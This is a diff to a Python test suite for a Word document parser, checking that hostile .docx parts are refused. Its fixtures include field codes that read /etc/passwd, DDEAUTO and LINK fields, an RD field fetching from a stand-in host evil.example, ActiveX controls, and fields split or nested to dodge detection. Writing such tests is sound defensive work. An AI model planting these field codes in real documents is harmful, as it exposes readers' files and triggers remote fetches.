@@ -168,11 +168,25 @@ _RELS = (
     'officeDocument/2006/relationships/{kind}" Target="{target}" {more}/>'
     "</Relationships>"
 )
-_FIELD = (
-    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-    "<w:body><w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "
-    "/etc/passwd</w:instrText></w:r></w:p></w:body></w:document>"
+_PART = (
+    '<w:{root} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    "<w:p><w:r>{inside}</w:r></w:p></w:{root}>"
 )
+_FIELD = _PART.format(
+    root="document",
+    inside="<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "
+    "/etc/passwd</w:instrText>",
+)
+
+
+def _write_field(*code: str) -> str:
+    """A field; what is itself a field is its code."""
+    inside = "".join(
+        part if part.startswith("<") else f"<w:instrText>{part}</w:instrText>"
+        for part in code
+    )
+    kinds = {at: f'<w:fldChar w:fldCharType="{at}"/>' for at in ("begin", "end")}
+    return kinds["begin"] + inside + kinds["end"]
 
 
 @pytest.mark.parametrize(
@@ -195,10 +209,48 @@ _FIELD = (
             {"word__settings.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"},
             "文档类型",
         ),
+        (
+            {
+                "word__header7.xml": _PART.format(
+                    root="hdr",
+                    inside=_write_field(_write_field("QUOTE 68 68 69"), " c:\\a"),
+                )
+            },
+            "外面",
+        ),
+        (
+            {
+                "parts__FOOT.XML": _PART.format(
+                    root="ftr", inside=_write_field("RD \\\\evil.example\\a.docx")
+                )
+            },
+            "外面",
+        ),
+        (
+            {
+                "word__settings.xml": _PART.format(
+                    root="settings", inside="<w:mailMerge/>"
+                )
+            },
+            "外面",
+        ),
+        (
+            {
+                "word___rels__header1.xml.RELS": _RELS.format(
+                    kind="control", target="a.bin", more=""
+                )
+            },
+            "宏",
+        ),
         ({"word__document.xml": "<w:broken"}, "不是能读的"),
+        ({"Word__styles.xml": _FIELD.replace("INCLUDE", "")}, "不是能读的"),
         ({"word__media__a.png": "0" * (210 << 20)}, "太大"),
     ],
-    ids=["macro", "object", "template", "field", "doctype", "torn", "bomb"],
+    ids=[
+        *("macro", "object", "template", "field", "doctype", "nested field"),
+        *("a part elsewhere", "mail merge", "control"),
+        *("torn", "a part twice", "bomb"),
+    ],
 )
 def test_a_hostile_word_file_is_refused_in_words(
     parts: dict[str, str], told: str
@@ -208,6 +260,59 @@ def test_a_hostile_word_file_is_refused_in_words(
     (issue,) = refused.value.issues
     assert told in issue.text.zh
     assert issue.hint is not None
+
+
+@pytest.mark.parametrize("by_type", ["Override", "Default"])
+def test_a_part_of_word_that_is_not_named_as_one_is_refused(by_type: str) -> None:
+    whole = _word("undertaking")
+    with zipfile.ZipFile(io.BytesIO(whole)) as packed:
+        types = packed.read("[Content_Types].xml").decode()
+    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
+    named = {"Override": 'PartName="/word/h.bin"', "Default": 'Extension="bin"'}
+    more = f'<{by_type} {named[by_type]} ContentType="{kind}"/></Types>'
+    part = _PART.format(root="hdr", inside=_write_field("DDEAUTO c:\\a"))
+    parts = {
+        "[Content_Types].xml": types.replace("</Types>", more),
+        "word__h.bin": part,
+    }
+    with pytest.raises(DocumentError):
+        read_word_blocks(_repack(whole, **parts))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        ("DDEAUTO c:\\a",),
+        (' quote "', "<w:t>x</w:t>", '" ', _write_field("LINK a b")),
+        (_write_field('QUOTE "DDE c:\\a"'),),
+        ("DD", '<w:fldSimple w:instr=" QUOTE E "/>', " c:\\a"),
+        ("INCLUDE", "<w:t>TEXT</w:t>", " c:\\a"),
+        ("IF 1 = 1 ", _write_field("DATE"), _write_field("INCLUDEPICTURE c:\\a")),
+    ],
+)
+def test_a_field_that_fetches_is_refused_however_it_is_nested(
+    code: tuple[str, ...],
+) -> None:
+    part = _PART.format(root="hdr", inside=_write_field("PAGE") + _write_field(*code))
+    with pytest.raises(DocumentError, match="outside"):
+        read_word_blocks(_repack(_word("undertaking"), **{"word__h.xml": part}))
+
+
+def test_fields_of_every_day_are_no_reason_to_refuse() -> None:
+    inside = (
+        _write_field(" PAGE ")
+        + _write_field(" IF ", _write_field("NUMPAGES"), ' = 1 "" "页" ')
+        + _write_field("=", _write_field("PAGE"), "+1")
+        + '<w:fldChar w:fldCharType="begin"/><w:instrText>TOC</w:instrText>'
+        '<w:fldChar w:fldCharType="separate"/>'
+        + _write_field("PAGEREF s1")
+        + '<w:fldChar w:fldCharType="end"/>'
+    )
+    part = _PART.format(root="hdr", inside=inside)
+
+    assert read_word_blocks(
+        _repack(_word("undertaking"), **{"word__header7.xml": part})
+    )
 
 
 @pytest.mark.parametrize(
